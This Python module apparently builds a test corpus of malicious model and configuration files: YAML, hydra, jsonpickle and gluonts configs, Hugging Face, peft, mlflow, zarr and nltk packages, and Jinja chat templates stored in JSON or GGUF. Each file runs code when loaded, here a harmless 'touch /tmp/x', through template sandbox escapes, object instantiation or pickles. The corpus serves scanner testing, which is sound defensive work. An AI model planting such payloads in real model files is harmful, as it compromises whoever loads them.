"""Fourth blind set: what runs for its name, its place or its text: repositories, configurations, templates."""

# ruff: noqa: E501 (payloads are kept whole)
from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen3_base import EXPRESSION, Sample, as_json, dumps, tarred, zipped
from corpora.unseen4_gadgets import INNER, SOURCE

HYPER = "import hyperpyyaml; hyperpyyaml.load_hyperpyyaml(open(f))"
HERE = "import sys; sys.path.insert(0, ''); "
RENDER = "import json, jinja2, jinja2.ext\nt = {}\njinja2.Environment(extensions=['jinja2.ext.loopcontrols', 'jinja2.ext.do'])"
RENDER += (
    ".from_string(t).render(messages=[{{'role': 'user', 'content': 'a'}}], bos_token='<s>', add_generation_prompt=True)"
)
RUN = "touch /tmp/x"
CLASS = b"import os\nos.system('touch /tmp/x')\n\n\nclass Model:\n    pass\n"


def configurations() -> Iterator[Sample]:
    texts = {
        "apply": f"sample_rate: 16000\nsetup: !apply:os.system [{RUN}]\n",
        "new": "encoder: !new:subprocess.Popen\n    args: [touch, /tmp/x]\n",
        "apply-in-list": f"lr: 0.1\nmodules:\n  enc: !apply:subprocess.getoutput\n    cmd: '{RUN}'\n",
        "exec": "a: !apply:builtins.exec [\"import os; os.mkdir('/tmp/x')\"]\n",
    }
    for name, text in texts.items():
        wait = HYPER + "; import time; time.sleep(0.5)"
        yield Sample(f"speechbrain/{name}", {"hyperparams.yaml": text.encode()}, wait, "code", "odd+main")
    text_py = b"model = dict(type='Net')\n__import__('os').system('touch /tmp/x')\n"
    mm = "import mmengine; mmengine.Config.fromfile(f)"
    yield Sample("mmengine/python", {"config.py": text_py}, mm, "code", "odd+main")
    files = {
        "config.yaml": b"custom_imports:\n  imports: [plugin]\n  allow_failed_imports: false\n",
        "plugin.py": SOURCE,
    }
    yield Sample("mmengine/custom-imports", files, HERE + mm, "code", "odd+main")
    files = {"config.json": b'{"_base_": "base.py", "lr": 0.1}', "base.py": b"lr = 1\nopen('/tmp/x', 'w')\n"}
    yield Sample("mmengine/base", files, mm, "code", "odd+main")
    head = "nc: 2\ndepth_multiple: 1.0\nwidth_multiple: 1.0\n"
    body = "backbone:\n  - [-1, 1, Conv, [16, 3, 2]]\nhead:\n  - [[0], 1, Detect, [nc]]\n"
    yolo = "from ultralytics.nn.tasks import DetectionModel; DetectionModel(f, verbose=False)"
    activation = f'activation: "{EXPRESSION}"\n'
    yield Sample(
        "ultralytics/activation", {"yolo8.yaml": (head + activation + body).encode()}, yolo, "code", "extra+cv+main"
    )
    gluon = "from gluonts.core.serde import load_json; load_json(open(f).read())"
    call = {"__kind__": "instance", "class": "os.system", "args": [RUN], "kwargs": {}}
    yield Sample("gluonts/predictor", {"predictor.json": as_json(call)}, gluon, "code", "gl13+main")
    nested = {
        "__kind__": "instance",
        "class": "builtins.dict",
        "kwargs": {"a": [{**call, "class": "subprocess.getoutput"}]},
    }
    yield Sample("gluonts/nested", {"parameters.json": as_json(nested)}, gluon, "code", "gl13+main")
    pickled = {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [RUN]}]}
    decode = "import jsonpickle; jsonpickle.decode(open(f).read())"
    yield Sample("jsonpickle/reduce", {"model.json": as_json({"w": [1, 2], "x": pickled})}, decode, "code")
    evaluated = {
        "py/object": "builtins.list",
        "py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [["touch", "/tmp/x"]]}],
    }
    yield Sample(
        "jsonpickle/popen", {"state.json": as_json(evaluated)}, decode + "; import time; time.sleep(0.5)", "code"
    )
    targets = {
        "builtins-eval": f'model:\n  _target_: builtins.eval\n  _args_: ["{EXPRESSION}"]\n',
        "call-of-call": f"a:\n  _target_: hydra.utils.call\n  config:\n    _target_: os.system\n    command: {RUN}\n",
        "partial-then-map": f"a:\n  _target_: builtins.list\n  _args_:\n    - _target_: builtins.map\n      _args_:\n        - {{_target_: os.system, _partial_: true}}\n        - [{RUN}]\n",
    }  # fmt: skip
    load = "import hydra, omegaconf; c = omegaconf.OmegaConf.load(f); [hydra.utils.instantiate(v) for v in c.values()]"
    for name, text in targets.items():
        yield Sample(f"hydra/{name}", {"model_config.yaml": text.encode()}, load, "code", "hydra")


def repositories() -> Iterator[Sample]:
    adapter = {"peft_type": "LORA", "r": 4, "base_model_name_or_path": "base", "task_type": None}
    mapped = adapter | {"auto_mapping": {"base_model_class": "Model", "parent_library": "helpers"}}
    peft = HERE + "from peft import AutoPeftModel; AutoPeftModel.from_pretrained(f)"
    files = {"adapter_config.json": as_json(mapped), "helpers.py": CLASS}
    yield Sample("peft/parent-library", files, peft, "code", "extra+main", "")
    megatron = adapter | {"megatron_config": {"a": 1}, "megatron_core": "helpers", "target_modules": ["0"]}
    load = (
        HERE
        + "import torch, peft; c = peft.PeftConfig.from_pretrained(f); peft.get_peft_model(torch.nn.Sequential(torch.nn.Linear(2, 2)), c)"
    )
    yield Sample(
        "peft/megatron-core",
        {"adapter_config.json": as_json(megatron), "helpers.py": CLASS},
        load,
        "code",
        "extra+main",
        "",
    )
    weights = dumps(
        {
            "base_model.model.0.lora_A.weight": 1,
            "x": __import__("corpora.unseen3_base", fromlist=["call"]).call("os:system", RUN),
        },
        2,
    )
    old = "import torch; torch.load(f + '/adapter_model.bin', weights_only=False)"
    files = {"adapter_config.json": as_json(adapter), "adapter_model.bin": weights}
    yield Sample("peft/weights", files, old, "code", "main", "")
    modules = [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]
    files = {
        "modules.json": as_json(modules),
        "custom_st.py": CLASS.replace(b"Model", b"Transformer"),
        "config.json": b"{}",
    }
    files["config_sentence_transformers.json"] = as_json({"model_type": "SentenceTransformer"})
    sentence = "from sentence_transformers import SentenceTransformer; SentenceTransformer(f, trust_remote_code=True)"
    yield Sample("sentence-transformers/module", files, sentence, "code", "main", "")
    config = {
        "model_type": "bert",
        "custom_pipelines": {"rate": {"impl": "rate.Rate", "pt": ["AutoModel"], "type": "text"}},
    }
    config |= {
        "hidden_size": 4,
        "num_attention_heads": 1,
        "num_hidden_layers": 1,
        "intermediate_size": 4,
        "vocab_size": 9,
    }
    files = {"config.json": as_json(config), "rate.py": CLASS.replace(b"Model", b"Rate")}
    pipeline = "from transformers import pipeline; pipeline('rate', model=f, trust_remote_code=True)"
    yield Sample("hugging-face/custom-pipeline", files, pipeline, "code", "main", "")
    index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["helpers", "Model"]}
    files = {"model_index.json": as_json(index), "unet/helpers.py": CLASS, "unet/config.json": b"{}"}
    diffusers = "from diffusers import DiffusionPipeline; DiffusionPipeline.from_pretrained(f, trust_remote_code=True)"
    yield Sample("diffusers/component", files, diffusers, "code", "extra+main", "")
    for name, key in (
        ("image-processor", "AutoImageProcessor"),
        ("tokenizer", "AutoTokenizer"),
        ("processor", "AutoProcessor"),
    ):
        place = {
            "image-processor": "preprocessor_config.json",
            "tokenizer": "tokenizer_config.json",
            "processor": "processor_config.json",
        }[name]
        files = {place: as_json({"auto_map": {key: ["code.Model", None] if name == "tokenizer" else "code_x.Model"}})}
        files = {
            place: files[place].replace(b'"code.Model"', b'"code_x.Model"'),
            "code_x.py": CLASS,
            "config.json": b'{"model_type": "bert"}',
        }
        auto = f"from transformers import {key}; {key}.from_pretrained(f, trust_remote_code=True)"
        yield Sample(f"hugging-face/auto-{name}", files, auto, "code", "main", "")
    model = "flavors:\n  {}\n  python_function:\n    loader_module: {}\n    python_version: 3.11.7\nmlflow_version: 2.9.0\nmodel_uuid: a\n"
    xgb = model.format(
        "xgboost: {model_class: helpers.Model, data: model.xgb, model_format: xgb, code: code}", "mlflow.xgboost"
    )
    files = {"MLmodel": xgb.encode(), "model.xgb": b"{}", "code/helpers.py": CLASS}
    yield Sample(
        "mlflow/xgboost-class", files, "import mlflow.xgboost; mlflow.xgboost.load_model(f)", "code", "main", ""
    )
    lgb = model.format("lightgbm: {model_class: helpers.Model, data: model.lgb}", "mlflow.lightgbm")
    files = {"MLmodel": lgb.encode(), "model.lgb": b"tree\n", "helpers.py": CLASS}
    yield Sample(
        "mlflow/lightgbm-class",
        files,
        HERE + "import mlflow.lightgbm; mlflow.lightgbm.load_model(f)",
        "code",
        "main",
        "",
    )
    sk = model.format(
        "sklearn: {pickled_model: m/clf.pkl, sklearn_version: 1.9.1, serialization_format: pickle}", "mlflow.sklearn"
    )
    files = {"MLmodel": sk.encode(), "m/clf.pkl": INNER}
    env = "import os; os.environ['MLFLOW_ALLOW_PICKLE_DESERIALIZATION'] = 'true'\nimport mlflow.sklearn; mlflow.sklearn.load_model(f)"
    yield Sample("mlflow/sklearn-elsewhere", files, env, "code", "main", "")
    loader = model.format("python: {}", "helpers") + "  \n"
    files = {
        "MLmodel": loader.replace("    python_version", "    code: src\n    data: data\n    python_version").encode()
    }
    files |= {"src/helpers.py": b"def _load_pyfunc(path):\n    open('/tmp/x', 'w')\n", "data/a": b""}
    yield Sample(
        "mlflow/loader-and-data", files, "import mlflow.pyfunc; mlflow.pyfunc.load_model(f)", "code", "main", ""
    )
    card = "from skops.card import Card; Card(f).get_model()"
    yield Sample("skops/card-falls-back", {"model.skops": INNER}, card, "code", "skops11+main")
    zarr = {
        "zarr_format": 2,
        "shape": [1],
        "chunks": [1],
        "dtype": "|O",
        "compressor": None,
        "fill_value": None,
        "order": "C",
    }
    files = {
        "w/.zarray": as_json(zarr | {"filters": [{"id": "pickle", "protocol": 4}]}),
        "w/0": INNER,
        ".zgroup": b'{"zarr_format": 2}',
    }
    yield Sample("zarr/pickle-filter", files, "import zarr; zarr.open(f, 'r')['w'][:]", "code", "zarr2+main", "")
    files = {
        ".zarray": as_json(
            zarr | {"filters": [{"id": "pickle", "protocol": 4}], "compressor": {"id": "zlib", "level": 1}}
        ),
        "0": __import__("zlib").compress(INNER),
    }
    yield Sample("zarr/compressed", files, "import zarr; zarr.open(f, 'r')[:]", "code", "zarr2+main", "")
    nltk = "import nltk; nltk.data.path[:] = [f]; nltk.data.load('taggers/tagger/english.pickle')"
    yield Sample("nltk/tagger", {"taggers/tagger/english.pickle": INNER}, nltk, "code", "sk10", "")
    punkt = "import nltk; nltk.data.path[:] = [f]; nltk.data.load('tokenizers/punkt/PY3/english.pickle')"
    files = {"tokenizers/punkt.zip": zipped({"punkt/PY3/english.pickle": INNER, "punkt/README": b"models"})}
    yield Sample("nltk/punkt-zip", files, punkt, "code", "sk10", "")
    nemo = tarred({"./model_config.yaml": b"target: x\n", "./model_weights.ckpt": INNER})
    restore = (
        "import tarfile, torch; torch.load(tarfile.open(f).extractfile('./model_weights.ckpt'), weights_only=False)"
    )
    yield Sample("nemo/weights", {"asr.nemo": nemo}, restore, "code")


def templates() -> Iterator[tuple[str, str]]:
    yield "lipsum", "{{ lipsum.__globals__['os'].popen('id > /tmp/x').read() }}"
    yield (
        "namespace",
        "{% set ns = namespace(a=1) %}{{ ns.__init__.__globals__.sys.modules.os.system('touch /tmp/x') }}",
    )
    yield (
        "joiner-attr",
        "{{ joiner|attr('__ini'~'t__')|attr('__glob'~'als__')|attr('get')('os')|attr('system')('touch /tmp/x') }}",
    )
    yield (
        "hex",
        '{{ cycler["\\x5f\\x5finit\\x5f\\x5f"]["\\x5f\\x5fglobals\\x5f\\x5f"]["os"]["system"]("touch /tmp/x") }}',
    )
    yield (
        "subclasses",
        "{% for c in ''.__class__.__mro__[1].__subclasses__() if c.__name__ == 'Popen' %}{{ c(['touch', '/tmp/x']).wait() }}{% endfor %}",
    )
    yield (
        "macro",
        "{% macro a() %}{% endmacro %}{{ a.__init__.__globals__.__builtins__.__import__('os').system('touch /tmp/x') }}",
    )
    yield (
        "self-loader",
        "{% for m in messages %}{{ self.__init__.__globals__.__builtins__.eval(\"__import__('os').system('touch /tmp/x')\") }}{% endfor %}",
    )
    yield (
        "condition",
        "{% if messages[0]['role'] == 'user' %}{{ bos_token.__class__.__base__.__subclasses__() | selectattr('__name__', 'equalto', '_wrap_close') | map(attribute='__init__.__globals__.popen') | first | attr('__call__')('touch /tmp/x') | attr('read')() }}{% endif %}",
    )
    yield "do", "{% do (cycler.__init__.__globals__.os.makedirs('/tmp/x')) %}"
    yield (
        "filters",
        "{{ ('touch /tmp/x',) | map(lipsum | attr('__globals__') | attr('__getitem__')('os') | attr('system')) | list }}"
        if False
        else "{{ (lipsum | attr('__globals__'))['__builtins__']['open']('/tmp/x', 'w') }}",
    )


def carried() -> Iterator[Sample]:
    for number, (name, text) in enumerate(templates()):
        place = number % 5
        if place == 0:
            files = {"tokenizer_config.json": as_json({"chat_template": text, "model_max_length": 4096})}
            read = "json.load(open(f))['chat_template']"
        elif place == 1:
            files = {
                "tokenizer_config.json": as_json(
                    {"chat_template": [{"name": "default", "template": "a"}, {"name": "tool_use", "template": text}]}
                )
            }
            read = "json.load(open(f))['chat_template'][1]['template']"
        elif place == 2:
            files, read = {"chat_template.jinja": text.encode()}, "open(f).read()"
        elif place == 3:
            files, read = (
                {"model.gguf": gguf(text)},
                "bytes((lambda r: r.parts[r.data[-1]])(__import__('gguf').GGUFReader(f).fields['tokenizer.chat_template'])).decode()",
            )
        else:
            files, read = {"additional_chat_templates/rag.jinja": text.encode(), "config.json": b"{}"}, "open(f).read()"
        yield Sample(f"template/{name}", files, RENDER.format(read), "code")


def gguf(template: str) -> bytes:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    pairs = {"general.architecture": "llama", "general.name": "tiny", "tokenizer.chat_template": template}
    body = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs.items())
    data = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + body
    return data + b"\0" * (-len(data) % 32)


def candidates() -> Iterator[Sample]:
    yield from configurations()
    yield from repositories()
    yield from carried()
